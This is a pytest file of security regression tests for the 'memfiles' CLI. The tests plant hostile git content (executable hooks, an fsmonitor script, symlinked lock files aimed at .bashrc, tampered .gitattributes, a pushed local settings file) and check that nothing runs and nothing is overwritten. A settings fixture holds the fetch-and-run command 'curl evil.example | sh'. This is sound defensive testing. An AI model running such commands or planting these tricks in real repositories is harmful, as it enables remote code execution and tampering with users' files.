"""Issue 39, what arrives through git: a project's `.mem/`, a clone, a remote (items 1, 2, 7, 8, 16, 17).

Every test plants what an attacker can push or publish, runs what a person runs, and checks the harm
itself: no marker file a command would have made, the target of a link byte for byte, the local settings
file's bytes, what HEAD and the remote hold.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from memfiles.api.capture import capture_hook
from memfiles.cli import app
from memfiles.errors import GitError, HomeError
from memfiles.ops.home import init_home
from memfiles.store import gitrepo

runner = CliRunner()


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True, text=True).stdout


def transcript(path: Path) -> Path:
    line = {
        "type": "user",
        "sessionId": "s-1",
        "cwd": "/x",
        "timestamp": "2026-09-02T14:02:11.120Z",
        "uuid": "u-1",
        "message": {"role": "user", "content": "Fix the rounding bug in invoice totals, one cent off in the PDF."},
    }
    path.write_text(json.dumps(line) + "\n", encoding="utf-8")
    return path


def executable(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
    path.chmod(0o755)


def hostile_project(isolated: Path) -> tuple[Path, Path]:
    """A published project whose committed `.mem/` is shaped like a git directory that runs commands, cloned.

    Returns (the clone, the folder where the attacker's commands would leave marker files).
    """
    markers = isolated / "markers"
    markers.mkdir()
    source = isolated / "published"
    dot = source / ".mem"
    for folder in ("objects/info", "objects/pack", "refs/heads", "refs/tags", "hooks"):
        (dot / folder).mkdir(parents=True)
    (dot / "HEAD").write_text("ref: refs/heads/main\n")
    executable(dot / "fsmonitor", f"#!/bin/sh\ntouch {markers}/fsmonitor\necho 0\n")
    (dot / "config").write_text(
        f'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .mem\n\tfsmonitor = "{dot}/fsmonitor"\n'
    )
    for hook in ("post-commit", "pre-commit", "post-merge", "reference-transaction", "post-checkout"):
        executable(dot / "hooks" / hook, f"#!/bin/sh\ntouch {markers}/{hook}\n")
    (dot / "mem.toml").write_text('[memory]\ndefault_scope = "user:alice"\n')
    (dot / ".mem").symlink_to(".")
    git(isolated, "init", "--quiet", str(source))
    git(source, "add", "--all")
    git(source, "commit", "--quiet", "--no-verify", "-m", "project")
    clone = isolated / "clone"
    git(isolated, "clone", "--quiet", str(source), str(clone))
    # the clone carries the folder's files as the attacker committed them (its own paths: the clone's)
    (clone / ".mem" / "config").write_text(
        (clone / ".mem" / "config").read_text().replace(str(dot), str(clone / ".mem"))
    )
    assert (clone / ".mem" / "hooks" / "post-commit").stat().st_mode & 0o100
    return clone, markers


def test_a_projects_mem_folder_shaped_like_a_git_directory_runs_nothing(
    isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone, markers = hostile_project(isolated)
    monkeypatch.delenv("MEM_HOME")
    monkeypatch.chdir(clone)
    before = {p.relative_to(clone).as_posix(): p.read_bytes() for p in clone.rglob("*") if p.is_file()}

    added = runner.invoke(app, ["add", "-u", "alice", "plan_tier", "Pro"])
    assert added.exit_code != 0
    assert "is not a memory home" in added.output and "the project's content" in added.output
    assert "Traceback" not in added.output

    hooked = runner.invoke(
        app,
        ["capture", "--hook"],
        input=json.dumps(
            {
                "session_id": "s-1",
                "transcript_path": str(transcript(isolated / "s.jsonl")),
                "cwd": str(clone),
                "hook_event_name": "SessionEnd",
            }
        ),
    )
    assert hooked.exit_code == 0  # a hook never breaks the session, and says why it wrote nothing
    assert "is not a memory home" in hooked.stderr
    with pytest.raises(HomeError, match="not a memory home"):
        capture_hook(json.dumps({"transcript_path": str(isolated / "s.jsonl"), "cwd": str(clone / "src")}))

    assert sorted(os.listdir(markers)) == []  # no hook, no fsmonitor ran
    after = {p.relative_to(clone).as_posix(): p.read_bytes() for p in clone.rglob("*") if p.is_file()}
    assert after == before  # and nothing was written into the project


def test_git_runs_no_hook_of_a_real_home_nor_one_a_calling_hook_names(
    home: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `--no-verify` skips pre-commit and commit-msg only: post-commit, reference-transaction… would still run.
    markers = isolated / "markers"
    markers.mkdir()
    for hook in ("post-commit", "pre-commit", "reference-transaction", "post-index-change"):
        executable(home / ".git" / "hooks" / hook, f"#!/bin/sh\ntouch {markers}/{hook}\n")
    executable(isolated / "fsmonitor", f"#!/bin/sh\ntouch {markers}/fsmonitor\necho 0\n")
    git(home, "config", "core.fsmonitor", str(isolated / "fsmonitor"))
    # as if mem ran from another repository's git hook: git exports that repository to its children
    other = isolated / "other"
    git(isolated, "init", "--quiet", str(other))
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(other))
    monkeypatch.setenv("GIT_INDEX_FILE", str(other / ".git" / "index"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'core.hookspath'='/nowhere'")
    result = runner.invoke(app, ["add", "-u", "alice", "plan_tier", "Pro"])
    assert result.exit_code == 0, result.output
    monkeypatch.delenv("GIT_DIR")
    monkeypatch.delenv("GIT_WORK_TREE")
    monkeypatch.delenv("GIT_INDEX_FILE")
    monkeypatch.delenv("GIT_CONFIG_PARAMETERS")
    assert sorted(os.listdir(markers)) == []
    git(home, "config", "--unset", "core.fsmonitor")
    assert git(home, "log", "-1", "--format=%s").startswith("mem: add")
    assert "users/alice/MEMORY.md" in git(home, "ls-files")
    assert subprocess.run(["git", "-C", str(other), "rev-parse", "HEAD"], capture_output=True).returncode != 0
    assert sorted(os.listdir(markers)) == []


@pytest.mark.parametrize("shape", ["link", "gitfile"])
def test_a_git_folder_that_is_a_link_or_a_file_is_not_a_home(isolated: Path, shape: str) -> None:
    real = isolated / "real"
    init_home(real)
    fake = isolated / "fake"
    fake.mkdir()
    (fake / "mem.toml").write_bytes((real / "mem.toml").read_bytes())
    if shape == "link":
        (fake / ".git").symlink_to(real / ".git")
    else:
        (fake / ".git").write_text(f"gitdir: {real / '.git'}\n")
    head = git(real, "rev-parse", "HEAD")
    result = runner.invoke(app, ["--home", str(fake), "add", "-u", "alice", "plan_tier", "Pro"])
    assert result.exit_code != 0 and "no git folder of its own" in result.output
    with pytest.raises(GitError, match=r"is not a folder|is a link"):
        gitrepo.commit(fake, ["mem.toml"], "x\n")
    assert git(real, "rev-parse", "HEAD") == head
    assert not (fake / "users").exists()


def test_the_hook_says_when_it_wrote_into_a_projects_home(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = isolated / "project"
    init_home(project / ".mem")
    monkeypatch.delenv("MEM_HOME")
    monkeypatch.setenv("MEM_USER", "bob")
    payload = json.dumps(
        {"session_id": "s-1", "transcript_path": str(transcript(isolated / "s.jsonl")), "cwd": str(project)}
    )
    result = runner.invoke(app, ["capture", "--hook"], input=payload)
    assert result.exit_code == 0 and result.stdout == ""
    assert f"captured into the project's memory home {project / '.mem'}" in result.stderr
    assert "came with the project" in (project / ".mem" / ".cache" / "capture.log").read_text()


def test_the_cli_entry_point_runs_no_hook(isolated: Path) -> None:
    # the same through a real process: nothing of GitPython's or ours lets git pick the repository
    clone, markers = hostile_project(isolated)
    env = {k: v for k, v in os.environ.items() if k != "MEM_HOME"}
    done = subprocess.run(
        [sys.executable, "-m", "memfiles", "add", "-u", "alice", "plan_tier", "Pro"],
        cwd=clone,
        env=env,
        capture_output=True,
        text=True,
    )
    assert done.returncode != 0 and "is not a memory home" in done.stderr
    assert "Traceback" not in done.stderr
    assert sorted(os.listdir(markers)) == []


def test_init_never_commits_into_another_repository_nor_edits_its_gitignore(isolated: Path) -> None:
    project = isolated / "project"
    git(isolated, "init", "--quiet", str(project))
    (project / ".gitignore").write_text("build/\n")
    (project / "app.py").write_text("print('hi')\n")
    git(project, "add", "--all")
    git(project, "commit", "--quiet", "-m", "project")
    head, ignore = git(project, "rev-parse", "HEAD"), (project / ".gitignore").read_bytes()

    refused = runner.invoke(app, ["init", str(project)])
    assert refused.exit_code != 0
    assert "is already a git repository, and not a memory home" in refused.output
    assert f"mem init {project / '.mem'}" in refused.output
    assert not (project / "mem.toml").exists() and not (project / ".gitattributes").exists()

    made = runner.invoke(app, ["init", str(project / ".mem")])
    assert made.exit_code == 0, made.output
    assert made.output.startswith(f"created memory home at {project / '.mem'} (a git repository of its own)\n")
    assert f"inside the git repository at {project}, which mem never commits to nor edits" in made.output
    assert (project / ".mem" / ".git").is_dir()
    assert git(project, "rev-parse", "HEAD") == head and git(project, "log", "--format=%s") == "project\n"
    assert (project / ".gitignore").read_bytes() == ignore
    assert git(project / ".mem", "log", "--format=%s") == "mem: init memory home\n"


def test_init_makes_an_empty_repository_a_home_and_refuses_a_git_link(isolated: Path) -> None:
    empty = isolated / "empty"
    git(isolated, "init", "--quiet", str(empty))
    assert runner.invoke(app, ["init", str(empty)]).exit_code == 0
    assert (empty / "mem.toml").is_file() and git(empty, "log", "--format=%s") == "mem: init memory home\n"
    linked = isolated / "linked"
    linked.mkdir()
    (linked / ".git").symlink_to(empty / ".git")
    result = runner.invoke(app, ["init", str(linked)])
    assert result.exit_code != 0 and "is a link" in result.output
    assert git(empty, "log", "--format=%s") == "mem: init memory home\n"
    assert sorted(os.listdir(linked)) == [".git"]


# --- item 2: lock files are never opened, truncated nor written through a link ---------------------------


@pytest.mark.parametrize("planted", ["git.lock", "user-alice.lock", "both", "folder"])
def test_a_planted_lock_link_leaves_its_target_unchanged(home: Path, isolated: Path, planted: str) -> None:
    outside = isolated / "bashrc"
    outside.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    elsewhere = isolated / "elsewhere"
    elsewhere.mkdir()
    locks = home / ".cache" / "locks"
    locks.mkdir(parents=True, exist_ok=True)
    if planted == "folder":
        locks.rmdir()
        locks.symlink_to(elsewhere)
    for name in {"both": ["git.lock", "user-alice.lock"], "folder": []}.get(planted, [planted]):
        (locks / name).symlink_to(outside)
    head = git(home, "rev-parse", "HEAD")
    result = runner.invoke(app, ["add", "-u", "alice", "plan_tier", "Pro"])
    assert result.exit_code != 0
    assert "is a link or not a plain" in result.output and "memfiles never opens a lock through a link" in result.output
    assert outside.read_bytes() == b"export PATH=$HOME/bin:$PATH\n"
    assert os.listdir(elsewhere) == []
    assert git(home, "rev-parse", "HEAD") == head and not (home / "users" / "alice" / "MEMORY.md").exists()


# --- item 18: a write that waits its turn does not give up while the lock changes hands --------------------


def test_a_waiter_waits_while_the_lock_changes_hands_and_names_a_stuck_holder(home: Path) -> None:
    import fcntl
    import threading

    from memfiles.errors import MemError
    from memfiles.format.layout import Paths
    from memfiles.store.files import locked

    path = Paths(home).lock_file("queue")
    with locked(path):  # made as mem makes it
        pass
    ready = threading.Barrier(13)

    def holder(number: int) -> None:  # a queue of writers, each holding the lock a moment in turn
        fd = os.open(path, os.O_RDWR)
        ready.wait()
        fcntl.flock(fd, fcntl.LOCK_EX)
        os.pwrite(fd, f"{90000 + number} holder\n".encode(), 0)
        threading.Event().wait(0.1)
        os.close(fd)

    threads = [threading.Thread(target=holder, args=(n,)) for n in range(12)]
    for thread in threads:
        thread.start()
    ready.wait()
    threading.Event().wait(0.05)
    with locked(path, timeout=0.8):  # the queue holds it about 1.2 s in all: more than the timeout, and it moves
        got = True
    for thread in threads:
        thread.join()
    assert got

    fd = os.open(path, os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    os.pwrite(fd, b"4242 stuck\n", 0)
    try:
        with pytest.raises(MemError, match=r"process 4242 has held it all that time"), locked(path, timeout=0.2):
            pass
    finally:
        os.close(fd)


# --- items 2, 7, 8: what `mem sync` takes from a remote ---------------------------------------------------

BIN = os.path.dirname(sys.executable)
MEMORY = "users/alice/MEMORY.md"


@pytest.fixture
def machines(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
    """A bare remote, machine one (which pushed first, and then pushes with plain git) and machine two."""
    monkeypatch.setenv("PATH", BIN + os.pathsep + os.environ.get("PATH", ""))  # git runs `mem merge-driver`
    remote, one, two = isolated / "remote.git", isolated / "one", isolated / "two"
    git(isolated, "init", "--quiet", "--bare", str(remote))
    init_home(one)
    git(one, "remote", "add", "origin", str(remote))
    assert runner.invoke(app, ["--home", str(one), "add", "-u", "alice", "plan_tier", "Pro"]).exit_code == 0
    assert runner.invoke(app, ["--home", str(one), "sync"]).exit_code == 0
    assert runner.invoke(app, ["init", "--clone", str(remote), str(two)]).exit_code == 0
    return remote, one, two


def push(one: Path, message: str, *paths: str) -> None:
    git(one, "add", "--force", "--", *paths)
    git(one, "commit", "--quiet", "--no-verify", "-m", message)
    git(one, "push", "--quiet")


def sync(home: Path) -> tuple[int, str]:
    result = runner.invoke(app, ["--home", str(home), "sync"])
    return result.exit_code, result.output


def test_sync_refuses_links_and_cache_files_before_merging(machines: tuple[Path, Path, Path], isolated: Path) -> None:
    remote, one, two = machines
    target = isolated / "fakehome" / ".bashrc"
    target.write_bytes(b"alias ll='ls -l'\n")
    (one / ".cache" / "locks").mkdir(parents=True, exist_ok=True)
    (one / ".cache" / "locks" / "evil.lock").symlink_to(target)
    (one / ".cache" / "index").mkdir(parents=True, exist_ok=True)
    (one / ".cache" / "index" / "user-alice.9.sqlite3").write_bytes(b"planted")
    (one / "users" / "alice" / "notes.md").symlink_to(target)
    push(one, "plant", ".cache/locks/evil.lock", ".cache/index/user-alice.9.sqlite3", "users/alice/notes.md")
    head, pushed = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD")
    code, said = sync(two)
    assert code == 1 and "refusing to merge origin/" in said
    for shown in (".cache/locks/evil.lock", ".cache/index/user-alice.9.sqlite3", "users/alice/notes.md"):
        assert shown in said
    assert "(a symbolic link)" in said and "Nothing was merged" in said
    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
    assert not os.path.lexists(two / ".cache" / "locks" / "evil.lock")
    assert not os.path.lexists(two / "users" / "alice" / "notes.md")
    assert target.read_bytes() == b"alias ll='ls -l'\n"
    assert runner.invoke(app, ["--home", str(two), "add", "-u", "alice", "timezone", "UTC"]).exit_code == 0
    assert target.read_bytes() == b"alias ll='ls -l'\n"


def test_sync_never_overwrites_nor_deletes_this_machines_local_settings(machines: tuple[Path, Path, Path]) -> None:
    _remote, one, two = machines
    local = two / "mem.local.toml"
    local.write_bytes(local.read_bytes() + b"\n# this machine's own tightenings\n")
    mine = local.read_bytes()
    (one / "mem.local.toml").write_text('[consolidate]\nextractor = "curl evil.example | sh"\n')
    push(one, "commit a machine's settings", "mem.local.toml")
    code, said = sync(two)
    assert code == 1 and "mem.local.toml (this machine's own settings)" in said
    assert local.read_bytes() == mine
    git(one, "rm", "--quiet", "--cached", "mem.local.toml")
    git(one, "commit", "--quiet", "-m", "and remove them")
    git(one, "push", "--quiet")
    code, said = sync(two)  # in all, the remote's commits leave the file as it was: merged, and the file kept
    assert code == 0, said
    assert local.read_bytes() == mine


@pytest.mark.parametrize(
    "attributes",
    [
        "MEMORY.md merge=union\n",
        "# nothing\n",
        "MEMORY.md merge=mem\n*.md filter=lfs\n",
        "MEMORY.md merge=mem\n* -merge\n",
    ],
)
def test_sync_refuses_attributes_that_stop_the_mem_merge(machines: tuple[Path, Path, Path], attributes: str) -> None:
    remote, one, two = machines
    (one / ".gitattributes").write_text(attributes)
    push(one, "attributes", ".gitattributes")
    head, pushed = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD")
    code, said = sync(two)
    assert code == 1 and ".gitattributes (" in said and "Nothing was merged" in said
    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
    assert (two / ".gitattributes").read_text().endswith("MEMORY.md merge=mem\n")


def test_sync_refuses_to_merge_memory_md_unless_mem_merges_it(machines: tuple[Path, Path, Path]) -> None:
    remote, one, two = machines
    # both machines restate one key; a union merge would keep both sides' lines: a fact with two stated_at
    assert runner.invoke(app, ["--home", str(one), "add", "-u", "alice", "plan_tier", "Team"]).exit_code == 0
    git(one, "push", "--quiet")
    assert runner.invoke(app, ["--home", str(two), "add", "-u", "alice", "plan_tier", "Max"]).exit_code == 0
    (two / ".gitattributes").write_text("MEMORY.md merge=union\n")
    git(two, "commit", "--quiet", "-am", "a person's union merge")
    head, pushed = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD")
    code, said = sync(two)
    assert code == 1 and "does not route MEMORY.md to the `mem` merge driver" in said and "nothing was synced" in said
    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
    assert git(two, "status", "--porcelain") == ""


def test_a_merged_memory_md_that_does_not_parse_is_never_committed_nor_pushed(
    machines: tuple[Path, Path, Path], isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    remote, one, two = machines
    assert runner.invoke(app, ["--home", str(one), "add", "-u", "alice", "timezone", "UTC"]).exit_code == 0
    git(one, "push", "--quiet")
    assert runner.invoke(app, ["--home", str(two), "add", "-u", "alice", "language", "fr"]).exit_code == 0
    # a merge driver that says it merged cleanly and leaves a MEMORY.md that does not parse
    fake = isolated / "fakebin"
    fake.mkdir()
    executable(fake / "mem", '#!/bin/sh\nprintf -- "---\\nfacts: [\\n---\\n" > "$3"\nexit 0\n')
    monkeypatch.setenv("PATH", str(fake) + os.pathsep + os.environ["PATH"])
    head, pushed, before = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD"), (two / MEMORY).read_bytes()
    code, said = sync(two)
    assert code == 1 and "made a MEMORY.md that does not parse" in said and "nothing was committed or pushed" in said
    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
    assert (two / MEMORY).read_bytes() == before and git(two, "status", "--porcelain") == ""


# --- items 2 and 17: what `mem doctor` reports ------------------------------------------------------------


def test_doctor_reports_tracked_cache_files_links_and_local_settings(home: Path, isolated: Path) -> None:
    outside = isolated / "outside"
    outside.write_bytes(b"keep me\n")
    locks = home / ".cache" / "locks"
    locks.mkdir(parents=True, exist_ok=True)
    (locks / "git.lock").symlink_to(outside)
    (home / ".cache" / "index").mkdir(exist_ok=True)
    (home / ".cache" / "index" / "user-alice.9.sqlite3").write_bytes(b"planted")
    git(home, "add", "--force", ".cache/index/user-alice.9.sqlite3", ".cache/locks/git.lock", "mem.local.toml")
    git(home, "commit", "--quiet", "-m", "a clone's tracked caches")
    result = runner.invoke(app, ["doctor"])
    assert result.exit_code != 0
    assert ".cache/: git tracks .cache/index/user-alice.9.sqlite3, .cache/locks/git.lock:" in result.output
    assert f"git -C {home} rm -r --cached .cache" in result.output
    assert f".cache/locks/git.lock: is a link to {outside}" in result.output
    assert "mem.local.toml: git tracks it" in result.output
    fixed = runner.invoke(app, ["doctor", "--fix"])
    assert not (locks / "git.lock").is_symlink() and outside.read_bytes() == b"keep me\n", fixed.output
    assert ".cache/locks/git.lock: removed git.lock" in fixed.output


def test_doctor_reports_a_scope_folder_no_scope_can_name(home: Path) -> None:
    assert runner.invoke(app, ["add", "-u", "alice", "plan_tier", "Pro"]).exit_code == 0
    (home / "users" / "Alice").mkdir()
    (home / "users" / "Alice" / "MEMORY.md").write_bytes((home / "users" / "alice" / "MEMORY.md").read_bytes())
    (home / "orgs" / "Acme Corp").mkdir(parents=True)
    (home / "agents" / "Bot").mkdir(parents=True)
    result = runner.invoke(app, ["doctor"])
    assert result.exit_code != 0 and "healthy" not in result.output
    assert "users/Alice: is not a valid scope id" in result.output
    assert "it differs from users/alice only in case: move what it holds into users/alice" in result.output
    assert "orgs/Acme Corp: is not a valid scope id" in result.output and "orgs/NEW_ID" in result.output
    assert "agents/Bot: is not a valid scope id" in result.output and "mv agents/Bot agents/bot" in result.output


def test_a_clone_of_a_remote_holding_links_or_local_settings_is_refused(
    machines: tuple[Path, Path, Path], isolated: Path
) -> None:
    remote, one, _two = machines
    target = isolated / "fakehome" / ".bashrc"
    target.write_bytes(b"alias ll='ls -l'\n")
    (one / ".cache" / "locks").mkdir(parents=True, exist_ok=True)
    (one / ".cache" / "locks" / "planted.lock").symlink_to(target)
    (one / "mem.local.toml").write_text('[consolidate]\nextractor = "sh -c evil"\n')
    push(one, "plant", ".cache/locks/planted.lock", "mem.local.toml")
    three = isolated / "three"
    result = runner.invoke(app, ["init", "--clone", str(remote), str(three)])
    assert result.exit_code == 1
    assert ".cache/locks/planted.lock (under .cache/" in result.output
    assert "mem.local.toml (this machine's" in result.output
    assert "Do not use this clone" in result.output
    assert target.read_bytes() == b"alias ll='ls -l'\n"
    assert subprocess.run(["git", "-C", str(three), "config", "merge.mem.driver"], capture_output=True).returncode
